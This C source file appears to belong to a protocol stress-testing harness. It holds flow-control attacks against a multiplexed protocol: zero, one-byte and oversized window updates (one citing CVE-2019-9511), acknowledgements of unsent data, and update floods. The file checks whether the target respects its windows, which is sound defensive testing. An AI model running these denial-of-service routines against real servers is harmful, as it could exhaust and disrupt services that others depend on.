/*
 * windows.c - window updates of version 2: none, tiny, huge, false ones, too many.
 */
#include "attack.h"

enum {
    FIRST_ID = 3,
    WINDOW = 262144, /* of every stream at its start */
    AHEAD = 1 << 20,
    MANY = 50,
    PATIENT_IDS = 20
};

/** Opens a stream that gets a window before its application can say anything. */
static bool open_with_window(struct peer *peer, uint32_t id, char what, uint32_t window)
{
    peer_begin(peer, id);
    peer_upd(peer, id, 0, window);
    return peer_say(peer, id, what);
}

static void expect_no_more_than(struct peer *peer, uint64_t bytes)
{
    if (peer->payload > bytes) {
        peer_blame(peer, "%llu bytes came, the windows allow %llu",
                   (unsigned long long)peer->payload, (unsigned long long)bytes);
    }
}

/* CVE-2026-33814: a value of 0 must not make anything spin. */
void attack_window_zero(struct peer *peer)
{
    for (uint32_t i = 0; i < MANY; i++) {
        open_with_window(peer, FIRST_ID + 2 * i, 'S', 0);
    }
    while (peer_wait(peer, 100)) {
    }
    expect_no_more_than(peer, 0);
}

/* CVE-2019-9511: makes the victim send byte by byte. */
void attack_window_one(struct peer *peer)
{
    open_with_window(peer, FIRST_ID, 'S', 1);
    for (uint32_t consumed = 1; peer_await_payload(peer, consumed); consumed++) {
        expect_no_more_than(peer, consumed);
        peer_upd(peer, FIRST_ID, consumed, 1);
    }
}

/* M9: with Go, a window of 2^31 stalls the writer for good or takes all limits away. Here the
 * writer may send 2^31 - 1 at once, and each such update costs ten glitches. */
static void flood_window(struct peer *peer, uint32_t window)
{
    peer->deaf = true;
    for (uint32_t id = FIRST_ID; peer_live(peer); id += 2) {
        open_with_window(peer, id, 'S', window);
        for (uint32_t i = 0; i < 100; i++) {
            if (!peer_upd(peer, id, 0, window)) {
                return;
            }
        }
    }
}

void attack_window_2_31(struct peer *peer)
{
    flood_window(peer, 0x80000000);
}

void attack_window_2_32(struct peer *peer)
{
    flood_window(peer, 0xffffffff);
}

/* Acknowledges what was never sent. The first streams do so once their application works, so that it
 * hears why they end; then as fast as it goes. */
void attack_consumed_ahead(struct peer *peer)
{
    for (uint32_t id = FIRST_ID; peer_open(peer, id, 'E'); id += 2) {
        if (id < PATIENT_IDS) {
            peer_psh(peer, id, 1);
            peer_await_payload(peer, peer->payload + 1);
        }
        peer_upd(peer, id, AHEAD, WINDOW);
    }
}

/* Acknowledges less and less; honest peers with two readers do that, too. */
void attack_consumed_back(struct peer *peer)
{
    peer_open(peer, FIRST_ID, 'S');
    peer_await_payload(peer, WINDOW / 2);
    peer_upd(peer, FIRST_ID, WINDOW / 2, 0);
    for (uint32_t consumed = WINDOW / 2 - 1;; consumed--) {
        if (!peer_upd(peer, FIRST_ID, consumed, 0x7fffffff)) {
            break;
        }
        if (consumed == 1) {
            consumed = WINDOW / 2;
        }
    }
    expect_no_more_than(peer, WINDOW);
}

void attack_upd_flood(struct peer *peer)
{
    peer_open(peer, FIRST_ID, 'E');
    while (peer_upd(peer, FIRST_ID, 0, WINDOW)) {
    }
}

/* Each update changes something, so none of them is useless. */
void attack_upd_jitter(struct peer *peer)
{
    peer_open(peer, FIRST_ID, 'E');
    for (uint32_t window = 1; peer_upd(peer, FIRST_ID, 0, window % WINDOW); window++) {
    }
}

void attack_upd_unknown(struct peer *peer)
{
    for (uint32_t id = peer->own_id; peer_upd(peer, id, 1000000, 0xffffffff); id += 2) {
    }
}
